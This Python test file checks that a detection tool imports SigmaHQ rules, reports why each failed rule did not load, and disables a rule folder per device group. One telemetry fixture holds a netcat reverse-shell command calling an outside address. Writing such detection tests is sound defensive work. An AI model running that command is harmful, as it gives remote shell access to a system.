"""`vigil rules import --from ../shared/data/sigma`: every rule file of SigmaHQ's content loads or is reported with
its reason and place, and switching a folder off for a device group changes what fires for it."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from vigil.cli import app
from vigil.content.store import ContentStore, content_root

pytestmark = pytest.mark.evaluation

REPO = Path(__file__).resolve().parents[2]
DATA = Path(os.environ.get("VIGIL_SHARED_DATA", REPO.parent / "shared" / "data"))
SIGMA = DATA / "sigma"

if not (SIGMA / "rules").is_dir():
    pytest.skip(f"third-party corpus absent: {SIGMA} (set VIGIL_SHARED_DATA)", allow_module_level=True)


def test_the_sigmahq_content_imports_and_every_rule_loads_or_says_why(tmp_path: Path) -> None:
    data = ["--data-dir", str(tmp_path)]
    result = CliRunner().invoke(app, ["rules", "import", "--from", str(SIGMA), "--version", "shared", *data])
    assert result.exit_code == 0, result.output
    store = ContentStore(content_root(tmp_path))
    base = content_root(tmp_path) / "packs" / "sigmahq" / "shared"
    files = {p.relative_to(SIGMA).as_posix() for p in SIGMA.rglob("*") if p.suffix in (".yml", ".yaml")
             and not any(part.startswith(".") for part in p.relative_to(SIGMA).parts)}
    loaded = {e.path for e in store.entries()}
    errors = store.load_errors()
    failed = {e.path.relative_to(base).as_posix() for e in errors if e.path is not None}
    assert files == loaded | failed  # each file: a rule that loaded, or its error
    assert len(loaded) > 3000
    for e in errors:
        assert e.reason and e.line is not None, str(e)  # the reason, and where in the file
    # The rule files proper (not the regression data's info.yml) load, but for placeholders nobody gave.
    rule_failures = [e for e in errors if "/regression_data/" not in f"/{e.path}" and e.kind != "placeholder"]
    assert rule_failures == [], [str(e) for e in rule_failures]
    listed = CliRunner().invoke(app, ["rules", "list", *data]).stdout
    assert f"{len(store.entries())} rules," in listed and f"{len(errors)} did not load" in listed
    # Default statuses: experimental and deprecated off, stable and test on.
    by_status = {(e.status, e.enabled) for e in store.entries()}
    assert ("experimental", True) not in by_status and ("stable", False) not in by_status
    assert ("test", True) in by_status and ("experimental", False) in by_status


def test_a_folder_switched_off_for_a_device_group_stops_firing_for_it(tmp_path: Path) -> None:
    store = ContentStore(content_root(tmp_path))
    store.import_release(SIGMA / "rules" / "linux", version="linux")
    row = {"ActionType": "ProcessCreated", "FolderPath": "/usr/bin/nc", "FileName": "nc",
           "ProcessCommandLine": "nc -e /bin/sh 10.0.0.1 4444", "InitiatingProcessFolderPath": "/bin/bash"}
    on = store.load().ruleset.match_telemetry("DeviceProcessEvents", row)
    assert on, "a reverse shell with nc -e raises SigmaHQ's process-creation rules"
    folder = f"sigmahq/{Path(on[0].path or '').parent.relative_to(content_root(tmp_path) / 'packs/sigmahq/linux')}"
    store.set_enabled([folder], False, group="servers")
    off = store.load("servers").ruleset.match_telemetry("DeviceProcessEvents", row)
    assert {h.rule_id for h in off} < {h.rule_id for h in on}
    assert all(not str(h.path).startswith(str(Path(on[0].path or "").parent)) for h in off)
    assert store.load().ruleset.match_telemetry("DeviceProcessEvents", row) == on  # others unchanged
